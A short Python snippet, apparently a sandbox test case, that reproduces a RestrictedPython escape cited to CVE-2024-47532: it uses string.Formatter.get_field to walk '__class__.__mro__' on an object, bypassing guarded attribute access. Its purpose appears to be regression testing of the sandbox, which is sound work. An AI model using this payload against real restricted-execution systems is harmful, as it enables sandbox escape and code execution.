# why: string.Formatter walks attributes with the real getattr (CVE-2024-47532).
# source: https://github.com/zopefoundation/RestrictedPython/security/advisories/GHSA-5rfv-66g4-jr8h
import string

formatter = getattr(string, "Formatter")()
formatter.get_field("0.__class__.__mro__", (workbook,), {})
